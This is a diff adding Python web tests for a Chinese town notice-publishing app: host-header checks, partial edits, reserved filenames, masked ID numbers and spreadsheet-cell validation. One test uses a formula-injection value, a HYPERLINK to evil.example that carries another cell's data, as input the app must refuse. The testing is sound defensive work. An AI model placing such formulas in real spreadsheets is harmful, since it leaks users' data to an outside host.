@@ -140,6 +140,12 @@ def test_an_unknown_notice_is_a_chinese_404(town):
     assert "没有编号为「no-such-notice」的公示" in page.text
 
 
+def test_a_forged_host_header_gets_a_chinese_400(town):
+    page = client_for(account("王小红", OFFICER)).get("/", HTTP_HOST="evil.example")
+    assert page.status_code == 400
+    assert "请求有误" in page.text and 'lang="zh-Hans"' in page.text and "Bad Request" not in page.text
+
+
 # ---------------------------------------------------------------- sign-offs
 
 
@@ -313,6 +319,45 @@ def test_a_new_notice_with_an_id_that_exists_is_refused_on_the_form(town):
     assert page.status_code == 200
     assert page.context["has_errors"] and "没有保存" in page.text
     assert (town / "notices" / f"{FINANCE}.yaml").read_bytes() == before
+
+
+def test_an_empty_or_partial_edit_post_changes_only_the_fields_it_carries(town):
+    client = client_for(account("王小红", OFFICER))
+    path = town / "notices" / f"{FINANCE}.yaml"
+    before = path.read_bytes()
+    client.post(f"/n/{FINANCE}/edit/", {})
+    assert path.read_bytes() == before  # byte for byte: no key removed, nothing rewritten
+    client.post(f"/n/{FINANCE}/edit/", {"title": "改过的标题"})
+    after = path.read_text(encoding="utf-8-sig")
+    assert "title: 改过的标题" in after
+    assert after.replace("title: 改过的标题", "title: 两城镇2026年第一季度财政收支情况公示") == before.decode(
+        "utf-8-sig"
+    )
+
+
+def test_the_whole_edit_form_still_clears_a_field_and_a_boolean(town):
+    client = client_for(account("王小红", OFFICER))
+    notice = "2026-election-notice"
+    path = town / "notices" / f"{notice}.yaml"
+    values = _form_values(client.get(f"/n/{notice}/edit/"))
+    client.post(f"/n/{notice}/edit/", {**values, "seal": "true", "hotline": "0531-12345678"})
+    text = path.read_text(encoding="utf-8")
+    assert "\nseal: true" in text and "\nhotline: 0531-12345678" in text
+    values = _form_values(client.get(f"/n/{notice}/edit/"))
+    assert values["seal"] == "true"
+    client.post(f"/n/{notice}/edit/", {**values, "seal": "", "hotline": ""})  # 默认 and an emptied field
+    text = path.read_text(encoding="utf-8")
+    assert "\nseal:" not in text and "\nhotline:" not in text
+
+
+def test_a_new_notice_named_like_a_windows_device_is_refused_on_the_form(town):
+    client = client_for(account("王小红", OFFICER))
+    values = _form_values(client.get("/new/guide/"))
+    values.update({"id": "con", "title": "指南"})
+    page = client.post("/new/guide/", values)
+    assert page.status_code == 200 and page.context["has_errors"]
+    assert "编号「con」是 Windows 的保留名字" in page.text
+    assert not list((town / "notices").glob("con.*"))
 
 
 def test_the_template_download_is_an_xlsx(town):
@@ -495,6 +540,35 @@ def test_a_bad_cell_is_red_in_the_table_and_fixed_there(town):
     assert f'<td id="{ref}" class="marked' not in client.get(f"/n/{FINANCE}/table/").text
     assert "680.99,680.99" in path.read_text(encoding="utf-8-sig")
     assert ("王小红", "改正单元格", FINANCE) in audit_actions()
+
+
+def test_a_masked_cell_is_not_offered_as_its_own_value_in_the_fix_form(town):
+    import openpyxl
+
+    path = town / "notices" / "2026q2-dibao.xlsx"
+    book = openpyxl.load_workbook(path)
+    book["低保对象"]["E3"] = "370831194506134999"  # a wrong check digit: marked, and shown masked
+    book.save(path)
+    page = client_for(account("王小红", OFFICER)).get("/n/2026q2-dibao/table/")
+    card = re.search(r'<li id="fix-E3".*?</li>', page.text, re.S)[0]
+    assert "现在是：「370*************99」" in card and "请填写完整的值" in card
+    field = re.search(r'<input name="value"[^>]*>', card)[0]
+    assert 'value=""' in field and "required" in field and "*" not in field
+
+
+def test_a_value_excel_would_run_or_a_cell_out_of_range_is_refused_on_the_table_page(town):
+    path = town / "notices" / f"{FINANCE}.csv"
+    before = path.read_bytes()
+    client = client_for(account("王小红", OFFICER))
+    for ref, value, says in (
+        ("D2", '=HYPERLINK("http://evil.example/?"&C5,"点这里")', "单元格不能以 =、+、-、@ 开头"),
+        ("A200000", "1", "超出了表格"),
+    ):
+        page = client.post(
+            f"/n/{FINANCE}/table/cell/", {"file": f"notices/{FINANCE}.csv", "cell": ref, "value": value}, follow=True
+        )
+        assert says in _messages(page), ref
+    assert path.read_bytes() == before
 
 
 # ---------------------------------------------------------------- previews, build, downloads
